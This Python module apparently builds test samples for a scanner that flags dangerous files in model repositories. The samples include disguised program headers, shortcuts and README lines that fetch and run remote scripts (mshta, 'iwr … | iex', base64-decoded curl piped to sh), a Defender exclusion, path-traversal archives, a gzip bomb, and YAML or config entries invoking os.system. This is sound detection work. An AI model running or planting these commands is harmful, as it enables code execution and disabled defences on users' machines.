"""Programs, deceptive names, archives, configurations and lists of packages (threats F1, F6, F7, P3, C1 to C4, D1, G2)."""

import json
import struct
import zlib
from collections.abc import Iterator

from benchmarks.corpus.pickles import tar, zipped_plainly
from benchmarks.corpus.samples import Sample, benign, careful, high
from tests.core.scanning.formats.zips import Member, zipped


def pe(library: bool = False) -> bytes:
    """The headers of a Windows program, and nothing that could run."""
    head = b"MZ" + bytes(58) + struct.pack("<I", 0x80)
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x8664, 0, 0, 0, 0, 240, 0x2022 if library else 0x22)
    return head.ljust(0x80, b"\0") + coff + b"\x0b\x02" + bytes(600)


def elf(library: bool = False) -> bytes:
    """The headers of a Linux program."""
    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HH", 3 if library else 2, 62) + bytes(400)


def shortcut(arguments: str) -> bytes:
    """A Windows shortcut: header, and a string of arguments (MS-SHLLINK 2.1, 2.4)."""
    guid = bytes.fromhex("0114020000000000c000000000000046")
    header = struct.pack("<I", 0x4C) + guid + struct.pack("<II", 0x20 | 0x80, 0x20) + bytes(24)
    header += struct.pack("<IIIHHII", 0, 0, 7, 0, 0, 0, 0)
    return header + struct.pack("<H", len(arguments)) + arguments.encode("utf-16-le") + bytes(4)


PROGRAMS = {
    "setup.exe": pe(), "model.dll": pe(True), "ops.pyd": pe(True), "saver.scr": pe(), "a.cpl": pe(True),
    "tool": elf(), "ops.so": elf(True), "run.bin": elf(), "mac_tool": b"\xcf\xfa\xed\xfe\x0c\x00\x00\x01" + bytes(300),
    "fat_tool": b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(300), "a.wasm": b"\x00asm\x01\x00\x00\x00" + bytes(99),
    "classes.dex": b"dex\n035\x00" + bytes(99), "Main.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + bytes(99),
    "disk.iso": bytes(0x8001) + b"CD001" + bytes(99), "image.vhdx": b"vhdxfile" + bytes(99),
    "help.chm": b"ITSF\x03\x00" + bytes(99), "a.cab": b"MSCF" + bytes(99), "tool.deb": b"!<arch>\ndebian-binary   " + bytes(99),
    "tool.rpm": b"\xed\xab\xee\xdb" + bytes(99), "note.one": b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d" + bytes(99),
    "app.msi": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "code.pyc": struct.pack("<H", 3495) + b"\r\n" + bytes(99),
}  # fmt: skip


def samples() -> Iterator[Sample]:
    """All of them."""
    for path, content in PROGRAMS.items():
        native = content.startswith((b"MZ", b"\x7fELF", b"\xcf\xfa", b"\xca\xfe\xba\xbe\x00\x00\x00\x02"))
        yield (high if native else careful)("program", path, path, content)
    for path in (
        "model.safetensors",
        "weights.bin",
        "card.txt",
        "picture.png",
        "notes.md",
        "model.gguf",
        "config.json",
    ):
        yield high("program-disguised", f"PE as {path}", path, pe())
        yield high("program-disguised", f"ELF as {path}", path, elf())
    yield high("shortcut", "powershell", "README.lnk", shortcut("powershell -w hidden -c echo"))
    yield high("shortcut", "mshta", "model.lnk", shortcut("mshta https://files.invalid/a.hta"))
    yield high(
        "shortcut", "internet, program", "docs.url", "[InternetShortcut]\r\nURL=file://203.0.113.7/share/a.exe\r\n"
    )
    pdf = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog {} >>\nendobj\n%%EOF\n"
    yield high(
        "document", "starts a program", "paper.pdf", pdf.replace(b"{}", b"/OpenAction << /S /Launch /F (cmd.exe) >>")
    )
    yield careful("document", "script", "paper.pdf", pdf.replace(b"{}", b"/OpenAction << /S /JavaScript /JS (1) >>"))
    yield careful("document", "script, escaped", "paper.pdf", pdf.replace(b"{}", b"/S /J#61vaScript"))
    packed = b"<< /Filter /FlateDecode >>\nstream\n" + zlib.compress(b"<< /S /JavaScript >>") + b"\nendstream"
    yield careful("document", "script, packed", "paper.pdf", pdf.replace(b"{}", packed))
    yield benign("document", "text", "paper.pdf", pdf.replace(b"{}", b"/OpenAction [3 0 R /Fit]"))
    for case, line in {
        "hidden": "powershell -WindowStyle Hidden -File setup.ps1",
        "encoded": "echo Y3VybCBodHRwczovL2ZpbGVzLmludmFsaWQ= | base64 -d | sh",
        "paste host": "iwr https://pastebin.com/raw/x | iex",
        "exclusion": "Add-MpPreference -ExclusionPath C:\\models",
    }.items():
        yield high("readme", case, "README.md", f"# Model\n\nFirst run:\n\n```powershell\n{line}\n```\n")
    yield high("readme", "antivirus", "README.md", "# Model\n\nPlease disable Windows Defender before you start.\n")
    yield high("readme", "in a text", "INSTALL.txt", "Please turn off your antivirus first.\n")
    yield careful(
        "readme", "download and run", "README.md", "# Model\n\n    curl -s https://files.invalid/a.sh | bash\n"
    )
    yield careful("readme", "password", "README.md", "# Model\n\nThe archive password is 1234.\n")
    yield from _names()
    yield from _archives()
    yield from _configurations()
    for line in ("transfomers==4.4", "numpyy", "reqeusts", "tourch", "scikit-laern", "huggingface_hubb"):
        yield high("requirements", line, "requirements.txt", f"torch\n{line}\n")
    yield high("requirements", "plain http", "requirements.txt", "http://203.0.113.7/tool.whl\n")
    for line in (
        "git+https://git.example/x.git",
        "tool @ https://files.example/t.whl",
        "--extra-index-url https://p.example",
        "./a.whl",
    ):
        yield careful("requirements", line, "requirements.txt", f"torch\n{line}\n")


def _names() -> Iterator[Sample]:
    for case, path in {
        "right to left": "card\u202efdp.exe",
        "double extension": "LICENSE.txt.exe",
        "padded": "report.pdf" + " " * 40 + ".scr",
        "zero width": "model\u200b.safetensors",
        "stream": "model.bin:evil.exe",
        "escape": "../../start.txt",
        "other letters": "m\u043edel.txt",
    }.items():
        yield high("name", case, path, pe() if path.endswith(("exe", "scr")) else b"hello")
    for case, path in {"device": "CON.txt", "dot at the end": "notes.txt."}.items():
        yield careful("name", case, path, "hello\n")
    yield careful("name", "twins", "Model.txt", "a\n", "MODEL.txt")
    yield careful("name", "twins", "model.TXT", "a\n", "Model.txt")
    yield benign("name", "too long", "a/" * 120 + "notes.txt", "a\n")
    yield high("name", "autorun", "autorun.inf", "[autorun]\r\nopen=a.exe\r\n")


def _archives() -> Iterator[Sample]:
    for case, member in {
        "above": "../../a.txt",
        "absolute": "/etc/cron.d/a",
        "drive": "C:\\Windows\\a.txt",
        "backslashes": "..\\..\\a.txt",
    }.items():
        yield high("archive-escape", case, "data.zip", zipped(Member(member, b"x")))
        yield high("archive-escape", f"{case} in tar", "data.tar", tar(**{member: b"x"}))
    yield high(
        "archive", "link out", "data.zip", zipped(Member("a", b"/etc/passwd", mode=0o120777), Member("a/b", b"x"))
    )
    yield careful("archive", "encrypted", "data.zip", zipped(Member("a.txt", b"secret", flags=1)))
    yield high("archive", "program inside", "models.zip", zipped_plainly(setup_exe=pe(), readme=b"hello"))
    yield high(
        "archive", "script inside", "models.zip", zipped_plainly(start=b"@echo off\r\npowershell -w hidden -c x\r\n")
    )
    office = {
        "[Content_Types].xml": b"<Types/>",
        "word__document.xml": b"<w/>",
        "word__vbaProject.bin": b"\xd0\xcf" + bytes(200),
    }
    yield careful("archive", "macros", "card.docm", zipped_plainly(**office))
    yield high("archive", "bomb", "data.gz", _gzip_bomb())
    for mark, path in (
        (b"7z\xbc\xaf\x27\x1c\x00\x04", "data.7z"),
        (b"Rar!\x1a\x07\x01\x00", "data.rar"),
        (b"\x1f\x9d\x90", "data.Z"),
    ):
        yield careful("archive", f"not opened {path}", path, mark + bytes(200))
    yield high("archive", "7z as weights", "pytorch_model.bin", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(200))


def _gzip_bomb() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(1 << 20)
    return b"".join(packer.compress(zeros) for _ in range(1200)) + packer.flush()


def _configurations() -> Iterator[Sample]:
    for module, name, label in (("os", "system", high), ("builtins", "eval", high), ("acme.tools", "Thing", careful)):
        node = {"__class__": name, "__module__": module, "__loader__": "FunctionNode", "content": {}}
        schema = json.dumps(
            {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {"a": node}}
        )
        yield label("skops", f"{module}.{name}", "model.skops", zipped(Member("schema.json", schema.encode())))
    pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:" + "a" * 64 + "\nsize 123\n"
    yield careful("pointer", "in place of weights", "model.safetensors", pointer)
    base = {"architectures": ["LlamaForCausalLM"], "hidden_size": 64, "model_type": "llama"}
    for key, value in {
        "_attn_implementation_internal": "someone/kernels",
        "_experts_implementation_internal": "someone/kernels",
        "attn_implementation": "someone/flash",
        "trust_remote_code": True,
        "custom_pipeline": "someone/pipeline",
    }.items():
        yield high("config-code", key, "config.json", json.dumps({**base, key: value}))
    for loader in ("AutoModel", "AutoTokenizer", "AutoConfig"):
        elsewhere = {**base, "auto_map": {loader: "other/repo--modeling.Model"}}
        yield high("auto-map-elsewhere", loader, "config.json", json.dumps(elsewhere))
        here = {**base, "auto_map": {loader: "modeling_own.Model"}}
        yield careful("auto-map", loader, "config.json", json.dumps(here), "modeling_own.py")
        yield careful("auto-map", f"{loader}, tokenizer", "tokenizer_config.json", json.dumps(here), "modeling_own.py")
    for target in ("os.system", "subprocess.Popen", "builtins.eval", "shutil.rmtree"):
        yield high("target", target, "config.yaml", f"model:\n  _target_: {target}\n  args: [x]\n")
        yield high("target", f"{target} in JSON", "model_config.json", json.dumps({"model": {"_target_": target}}))
    yield careful("target", "own class", "config.yaml", "model:\n  _target_: acme.models.Net\n")
    for tag in (
        "!!python/object/apply:os.system ['x']",
        "!!python/object/new:subprocess.Popen [x]",
        "!!python/name:os.system",
    ):
        yield high("yaml", tag.split()[0], "config.yaml", f"a: {tag}\n")
